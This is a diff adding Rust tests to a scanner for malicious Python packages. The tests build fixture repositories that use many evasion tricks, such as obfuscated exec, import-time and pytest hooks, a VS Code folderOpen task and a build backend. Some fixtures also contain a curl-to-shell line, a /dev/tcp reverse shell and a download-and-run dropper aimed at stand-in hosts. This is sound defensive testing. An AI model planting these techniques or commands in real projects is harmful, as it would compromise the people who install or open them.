@@ -239,6 +239,18 @@ fn findings(out: &Output) -> Vec<Value> {
     doc["findings"].as_array().unwrap().clone()
 }
 
+/// `scan --format json` of `root`, which must exit 1 (an error found): its findings.
+fn scan_failing(root: &Path) -> Vec<Value> {
+    let out = squatguard(root, &["scan", "--format", "json"]);
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    findings(&out)
+}
+
 fn line_of(root: &Path, file: &str, needle: &str) -> u64 {
     let text = std::fs::read_to_string(root.join(file)).unwrap();
     text.lines()
@@ -529,4 +541,362 @@ fn a_repository_under_inspection_cannot_switch_its_checks_off() {
     assert_fires(&all, "obfuscation", "dyn.py", 1, "note");
     assert_fires(&all, "decode-exec", "run.py", 2, "error");
     assert_fires(&all, "typosquat", "requirements.txt", 1, "error");
+}
+
+/// Text Python reads differently from a naive reader: a lone `\r` after a comment, a `utf-7`
+/// cookie, and math-bold identifiers that Python NFKC-normalises to `exec` and `base64`.
+#[test]
+fn python_is_read_as_python_reads_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let hello = base64(b"print(\"hello\")");
+    // to a reader splitting on \n only, the whole file is one comment
+    write(
+        root,
+        "cr/__init__.py",
+        format!("# helpers\rimport base64\rexec(base64.b64decode(\"{hello}\"))\n"),
+    );
+    // `+AGU-xec` is `exec` in UTF-7
+    write(
+        root,
+        "seven.py",
+        "#!/usr/bin/env python\n# -*- coding: utf-7 -*-\n+AGU-xec('print(1)')\n",
+    );
+    write(
+        root,
+        "bold/__init__.py",
+        format!("import \u{1d41b}\u{1d41a}\u{1d42c}\u{1d41e}\u{1d7d4}\u{1d7d2}\nx = 1; \u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(\u{1d41b}\u{1d41a}\u{1d42c}\u{1d41e}\u{1d7d4}\u{1d7d2}.b64decode(\"{hello}\"))\n"),
+    );
+    // honest Latin-1 source: read, and nothing to say
+    write(
+        root,
+        "latin.py",
+        b"# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n".as_slice(),
+    );
+    let all = scan_failing(root);
+    assert_fires(&all, "decode-exec", "cr/__init__.py", 3, "error");
+    assert_fires(&all, "obfuscation", "seven.py", 2, "error");
+    assert_fires(&all, "decode-exec", "bold/__init__.py", 2, "error");
+    let bold = all
+        .iter()
+        .find(|f| f["file"] == "bold/__init__.py" && f["rule"] == "decode-exec")
+        .unwrap();
+    // the column counts the characters of the line as written
+    assert_eq!(bold["column"], 8, "{bold}");
+    assert!(!all.iter().any(|f| f["file"] == "latin.py"), "{all:?}");
+}
+
+/// A zip archive holding `members` (stored, uncompressed), built by hand so the test needs no
+/// archiver.
+fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+    fn crc32(data: &[u8]) -> u32 {
+        let mut crc = !0u32;
+        for &b in data {
+            crc ^= u32::from(b);
+            for _ in 0..8 {
+                crc = if crc & 1 == 1 {
+                    (crc >> 1) ^ 0xEDB8_8320
+                } else {
+                    crc >> 1
+                };
+            }
+        }
+        !crc
+    }
+    let mut out = Vec::new();
+    let mut central = Vec::new();
+    for (name, data) in members {
+        let offset = out.len() as u32;
+        let crc = crc32(data);
+        let head = |sig: u32, central: bool| {
+            let mut h = sig.to_le_bytes().to_vec();
+            if central {
+                h.extend(20u16.to_le_bytes());
+            }
+            h.extend(20u16.to_le_bytes()); // version needed
+            h.extend([0u8; 6]); // flags, method (stored), time
+            h.extend(0u16.to_le_bytes()); // date
+            h.extend(crc.to_le_bytes());
+            h.extend((data.len() as u32).to_le_bytes());
+            h.extend((data.len() as u32).to_le_bytes());
+            h.extend((name.len() as u16).to_le_bytes());
+            h.extend(0u16.to_le_bytes()); // extra
+            if central {
+                h.extend([0u8; 6]); // comment, disk, internal attributes
+                h.extend(0u32.to_le_bytes());
+                h.extend(offset.to_le_bytes());
+            }
+            h.extend(name.as_bytes());
+            h
+        };
+        out.extend(head(0x0403_4b50, false));
+        out.extend(*data);
+        central.extend(head(0x0201_4b50, true));
+    }
+    let at = out.len() as u32;
+    out.extend(&central);
+    out.extend(0x0605_4b50u32.to_le_bytes());
+    out.extend([0u8; 4]);
+    out.extend((members.len() as u16).to_le_bytes());
+    out.extend((members.len() as u16).to_le_bytes());
+    out.extend((central.len() as u32).to_le_bytes());
+    out.extend(at.to_le_bytes());
+    out.extend(0u16.to_le_bytes());
+    out
+}
+
+/// Nothing passes unread: what can be read is (archive members, notebook cells, scripts with a
+/// Python shebang, folders a repository names `site-packages` or marks with `pyvenv.cfg`), and
+/// what cannot is an `opaque-code` finding, an error inside a package.
+#[test]
+fn nothing_passes_unread() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let hello = base64(b"print(\"hello\")");
+    let payload = format!("import base64\nexec(base64.b64decode(\"{hello}\"))\n");
+    write(
+        root,
+        "setup.py",
+        "from setuptools import setup\nsetup(name='app')\n",
+    );
+    write(root, "app/__init__.py", "from . import _speedups\n");
+    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
+    elf.extend([0u8; 56]);
+    write(root, "app/_speedups.cpython-311-x86_64-linux-gnu.so", &elf);
+    write(root, "tools/helper.pyd", b"MZ\x90\x00");
+    // too large to read, inside the package
+    let mut big = "x = 1\n".repeat(1_500_000);
+    big.push_str(&payload);
+    write(root, "app/tables.py", big);
+    // an archive on sys.path with a package inside
+    write(
+        root,
+        "lib/deps.zip",
+        zip_of(&[
+            ("vendor/__init__.py", payload.as_bytes()),
+            ("vendor/_native.so", &elf),
+        ]),
+    );
+    // a notebook's code cell
+    let cell = serde_json::to_string(
+        &payload
+            .lines()
+            .map(|l| format!("{l}\n"))
+            .collect::<Vec<_>>(),
+    )
+    .unwrap();
+    write(
+        root,
+        "analysis.ipynb",
+        format!(
+            "{{\n \"cells\": [\n  {{\n   \"cell_type\": \"markdown\",\n   \"metadata\": {{}},\n   \"source\": [\n    \"# Notes\"\n   ]\n  }},\n  {{\n   \"cell_type\": \"code\",\n   \"metadata\": {{}},\n   \"source\": {}\n  }}\n ],\n \"nbformat\": 4,\n \"nbformat_minor\": 5\n}}\n",
+            cell.replacen('[', "[\n    ", 1).replacen(",", ",\n    ", 1).replacen(']', "\n   ]", 1)
+        ),
+    );
+    // a script without an extension, run by a shell script
+    write(
+        root,
+        "bin/run",
+        format!("#!/usr/bin/env python3\n{payload}"),
+    );
+    write(root, "run.sh", "#!/bin/sh\n./bin/run\n");
+    // markers the repository controls hide nothing
+    write(root, "third_party/site-packages/evil/__init__.py", &payload);
+    write(root, "vendored/pyvenv.cfg", "home = /usr/bin\n");
+    write(root, "vendored/pkg/__init__.py", &payload);
+
+    let all = scan_failing(root);
+    for (rule, file, line, severity) in [
+        (
+            "opaque-code",
+            "app/_speedups.cpython-311-x86_64-linux-gnu.so",
+            1,
+            "error",
+        ),
+        ("opaque-code", "tools/helper.pyd", 1, "warning"),
+        ("opaque-code", "app/tables.py", 1, "error"),
+        ("decode-exec", "lib/deps.zip/vendor/__init__.py", 2, "error"),
+        (
+            "opaque-code",
+            "lib/deps.zip/vendor/_native.so",
+            1,
+            "warning",
+        ),
+    ] {
+        assert_fires(&all, rule, file, line, severity);
+    }
+    let nb_line = line_of(root, "analysis.ipynb", "exec(");
+    assert_fires(&all, "decode-exec", "analysis.ipynb", nb_line, "error");
+    assert_fires(&all, "decode-exec", "bin/run", 3, "error");
+    assert_fires(
+        &all,
+        "decode-exec",
+        "third_party/site-packages/evil/__init__.py",
+        2,
+        "error",
+    );
+    assert_fires(&all, "decode-exec", "vendored/pkg/__init__.py", 2, "error");
+    // a shell script is not Python
+    assert!(!all.iter().any(|f| f["file"] == "run.sh"), "{all:?}");
+
+    // the owner's own tree: tool folders by name are skipped, and counted
+    let out = squatguard(root, &["scan", "--trusted", "--format", "json"]);
+    let all = findings(&out);
+    assert!(!all
+        .iter()
+        .any(|f| f["file"] == "third_party/site-packages/evil/__init__.py"));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("skipped 1 path"), "{stderr}");
+}
+
+/// The calls and entry points a lure uses to run its payload unseen, each in its own file:
+/// aliases of `exec`, `map(exec, ...)`, `runpy` of a file that is not Python, `pickle` of
+/// decoded data, `__import__('os')`, a decoded or downloaded command, a thread started at
+/// import, a guard that is not a main guard, pytest hooks, `atexit`, a default argument,
+/// `exec(open(...).read())` of a data file, a VS Code `folderOpen` task, a download made
+/// executable, an in-tree build backend, a download piped to a shell and a reverse shell at
+/// import. Payloads are harmless and never run.
+#[test]
+fn evasions_are_followed() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let hello = base64(b"print(\"hello\")");
+    let marker = "echo hello > /tmp/squatguard-marker";
+    let payload = format!("import base64\nexec(base64.b64decode(\"{hello}\"))\n");
+    let files: &[(&str, String)] = &[
+        ("alias/__init__.py", format!("_run = exec\nimport base64\n_run(base64.b64decode(\"{hello}\"))\n")),
+        ("mapped/__init__.py", format!("import base64\nlist(map(exec, [base64.b64decode(\"{hello}\")]))\n")),
+        ("tests/conftest.py", format!("import base64\n_c = compile\n_e = eval\n_e(_c(base64.b64decode(\"{hello}\"), \"x\", \"exec\"))\n")),
+        ("runner/__init__.py", "import runpy\nrunpy.run_path(\"LICENSE.txt\")\n".into()),
+        ("LICENSE.txt", payload.clone()),
+        ("pickled/__init__.py", format!("import base64, pickle\npickle.loads(base64.b64decode(\"{hello}\"))\n")),
+        ("imported/__init__.py", format!("__import__('os').system('{marker}')\n")),
+        ("shell/__init__.py", format!("import base64, os\nos.system(base64.b64decode(\"{}\"))\n", base64(marker.as_bytes()))),
+        ("fetched/__init__.py", "import requests\nexec(requests.get(\"https://example.invalid/x\").text)\nfrom urllib.request import urlopen\ncode = urlopen(\"https://example.invalid/y\").read()\nexec(code)\n".into()),
+        ("threaded/__init__.py", format!("import subprocess, threading\ndef _work():\n    subprocess.run(\"{marker}\", shell=True)\nthreading.Thread(target=_work).start()\n")),
+        ("notmain/__init__.py", format!("import os\nif __name__ != \"__main__\":\n    os.system(\"{marker}\")\n")),
+        ("hooks/conftest.py", format!("import subprocess\ndef pytest_configure(config):\n    subprocess.run(\"{marker}\", shell=True)\n")),
+        ("exiting/__init__.py", format!("import atexit, os\n@atexit.register\ndef _bye():\n    os.system(\"{marker}\")\n")),
+        ("default/__init__.py", format!("import os\ndef f(x=os.system(\"{marker}\")):\n    return x\n")),
+        ("data/__init__.py", "import os\nexec(open(os.path.join(os.path.dirname(__file__), \"blob.dat\")).read())\n".into()),
+        ("data/blob.dat", payload.clone()),
+        ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n".into()),
+        ("backend.py", format!("import os\nos.system(\"{marker}\")\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    raise NotImplementedError\n")),
+        ("piped/__init__.py", "import subprocess\nsubprocess.run(\"curl -s https://example.invalid/x | sh\", shell=True)\n".into()),
+        ("reverse/conftest.py", "import subprocess\nsubprocess.call(\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\", shell=True)\n".into()),
+        ("dropper/__init__.py", "import os, subprocess, urllib.request\ndef _fetch():\n    path = os.path.expanduser(\"~/.cache/tool\")\n    urllib.request.urlretrieve(\"https://example.invalid/tool\", path)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n_fetch()\n".into()),
+        (".vscode/tasks.json", format!("{{\n  // opened, then run\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    {{\n      \"label\": \"setup\",\n      \"command\": \"sh\",\n      \"args\": [\"-c\", \"{marker}\"],\n      \"runOptions\": {{ \"runOn\": \"folderOpen\" }},\n    }},\n  ],\n}}\n")),
+    ];
+    for (path, text) in files {
+        write(root, path, text);
+    }
+    let all = scan_failing(root);
+    for (rule, file, line, severity) in [
+        ("decode-exec", "alias/__init__.py", 3, "error"),
+        ("decode-exec", "mapped/__init__.py", 2, "error"),
+        ("decode-exec", "tests/conftest.py", 4, "error"),
+        ("import-time-code", "tests/conftest.py", 4, "error"),
+        ("decode-exec", "LICENSE.txt", 2, "error"),
+        ("decode-exec", "pickled/__init__.py", 2, "error"),
+        ("import-time-code", "imported/__init__.py", 1, "warning"),
+        ("decode-exec", "shell/__init__.py", 2, "error"),
+        ("decode-exec", "fetched/__init__.py", 2, "error"),
+        ("decode-exec", "fetched/__init__.py", 5, "error"),
+        ("import-time-code", "threaded/__init__.py", 4, "warning"),
+        ("import-time-code", "notmain/__init__.py", 3, "warning"),
+        ("import-time-code", "hooks/conftest.py", 2, "warning"),
+        ("import-time-code", "exiting/__init__.py", 3, "warning"),
+        ("import-time-code", "default/__init__.py", 2, "warning"),
+        ("decode-exec", "data/blob.dat", 2, "error"),
+        ("import-time-code", "data/blob.dat", 2, "error"),
+        ("import-time-code", ".vscode/tasks.json", 9, "error"),
+        ("hidden-process", "dropper/__init__.py", 5, "error"),
+        ("install-time-code", "backend.py", 2, "warning"),
+        ("import-time-code", "piped/__init__.py", 2, "error"),
+        ("import-time-code", "reverse/conftest.py", 2, "error"),
+    ] {
+        assert_fires(&all, rule, file, line, severity);
+    }
+    let task = all
+        .iter()
+        .find(|f| f["file"] == ".vscode/tasks.json")
+        .unwrap();
+    assert!(
+        task["message"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("`sh -c {marker}`")),
+        "{task}"
+    );
+}
+
+/// An honest project using what the scan now reads and follows stays free of errors and
+/// warnings: a notebook, an archive of plain modules, a Latin-1 file, a script with a shebang,
+/// a version read with `exec(open(...).read())`, launches inside functions and under a main
+/// guard, pytest fixtures and hooks that run nothing, editor tasks run by hand.
+#[test]
+fn an_honest_project_stays_quiet() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        "setup.py",
+        "from setuptools import setup\nabout = {}\nexec(open('app/_version.py').read(), about)\nsetup(name='app', version=about['__version__'])\n",
+    );
+    write(root, "app/_version.py", "__version__ = '1.0'\n");
+    write(
+        root,
+        "app/__init__.py",
+        "import subprocess\nimport threading\nfrom functools import partial\n\n\ndef git(*args):\n    return subprocess.run(['git', *args], check=True)\n\n\nstatus = partial(git, 'status')\n\n\ndef start(fn):\n    threading.Thread(target=fn, daemon=True).start()\n",
+    );
+    write(
+        root,
+        "app/cli.py",
+        "import sys\nfrom . import git\n\n\ndef main(argv=None):\n    git(*(argv or sys.argv[1:]))\n\n\nif __name__ == '__main__':\n    main()\n",
+    );
+    write(
+        root,
+        "app/names.py",
+        b"# -*- coding: latin-1 -*-\nCITY = 'Montr\xe9al'\n".as_slice(),
+    );
+    write(
+        root,
+        "bin/app",
+        "#!/usr/bin/env python3\nfrom app.cli import main\nmain()\n",
+    );
+    write(
+        root,
+        "tests/conftest.py",
+        "import pytest\n\n\ndef pytest_configure(config):\n    config.addinivalue_line('markers', 'slow: slow tests')\n\n\n@pytest.fixture(autouse=True)\ndef tmp_home(tmp_path, monkeypatch):\n    monkeypatch.setenv('HOME', str(tmp_path))\n",
+    );
+    write(
+        root,
+        "notebooks/demo.ipynb",
+        "{\n \"cells\": [\n  {\n   \"cell_type\": \"code\",\n   \"metadata\": {},\n   \"source\": [\n    \"import app\\n\",\n    \"app.status()\"\n   ]\n  }\n ],\n \"nbformat\": 4,\n \"nbformat_minor\": 5\n}\n",
+    );
+    write(
+        root,
+        "vendor/libs.zip",
+        zip_of(&[
+            ("six.py", b"PY3 = True\n"),
+            ("six.pyc", b"\x55\x0d\x0d\x0a"),
+        ]),
+    );
+    write(
+        root,
+        ".vscode/tasks.json",
+        "{\n  // build on demand\n  \"version\": \"2.0.0\",\n  \"tasks\": [{\"label\": \"test\", \"command\": \"pytest\"}],\n}\n",
+    );
+    let out = squatguard(root, &["scan", "--format", "json"]);
+    let all = findings(&out);
+    assert!(
+        all.iter().all(|f| f["severity"] == "note"),
+        "{}",
+        serde_json::to_string_pretty(&all).unwrap()
+    );
+    assert_eq!(out.status.code(), Some(0));
+    // every one of them was read: 6 Python files, the shebang script, the notebook, the
+    // archive, the tasks file, and setup.py as a manifest
+    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(doc["summary"]["files"], 11, "{doc}");
 }
